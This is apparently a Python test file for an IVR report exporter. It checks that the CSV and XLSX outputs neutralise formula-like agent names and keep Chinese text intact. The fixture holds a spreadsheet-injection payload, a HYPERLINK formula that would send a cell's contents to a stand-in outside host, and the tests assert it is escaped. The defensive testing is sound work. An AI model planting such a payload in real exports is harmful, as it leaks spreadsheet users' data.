"""The CSV and XLSX writers: Excel must never run a name as a formula, and must read Chinese."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl

from ivr.domain.agents import Agent
from ivr.domain.reports import Month, MonthRows, monthly_report
from ivr.web.report_export import to_csv, to_xlsx

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def _report():  # type: ignore[no-untyped-def]
    agents = [Agent("1001", FORMULA, "Local/1001@x/n", ()), Agent("1002", "-2+3", "L/2", ())]
    return monthly_report(
        Month(2026, 9),
        ZoneInfo("Asia/Shanghai"),
        MonthRows([], [], agents),
        datetime(2026, 11, 1, tzinfo=UTC),
    )


def test_csv_quotes_formulas_and_starts_with_a_bom() -> None:
    raw = to_csv(_report())
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    names = [r[1] for r in rows if r and r[0] in ("1001", "1002")]
    assert names == ["'" + FORMULA, "'-2+3"]
    assert ["满意率达标 (satisfaction_target_met)", ""] in rows  # no answers: empty, not 否


def test_xlsx_stores_formula_like_names_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_report())))
    sheet = book["坐席"]
    assert sheet.cell(row=2, column=2).value == FORMULA
    assert sheet.cell(row=2, column=2).data_type == "s"
    assert sheet.cell(row=3, column=2).value == "-2+3"
    assert sheet.cell(row=3, column=2).data_type == "s"
